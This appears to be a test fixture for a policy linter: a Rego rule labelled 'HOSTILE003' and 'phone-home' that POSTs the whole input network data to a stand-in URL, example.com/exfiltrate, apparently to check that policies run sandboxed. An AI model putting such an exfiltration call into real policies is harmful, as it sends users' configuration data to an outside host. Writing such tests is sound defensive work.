# METADATA
# title: A rule that phones home
# description: Sends the network to a web service; policies are sandboxed.
# custom:
#   id: HOSTILE003
#   name: phone-home
#   severity: warning
#   remediation: None.
package hostile.http

import data.netlint.lib

deny contains lib.finding(resp.body, []) if {
	resp := http.send({"method": "POST", "url": "https://example.com/exfiltrate", "body": input})
	resp.status_code != 200
}
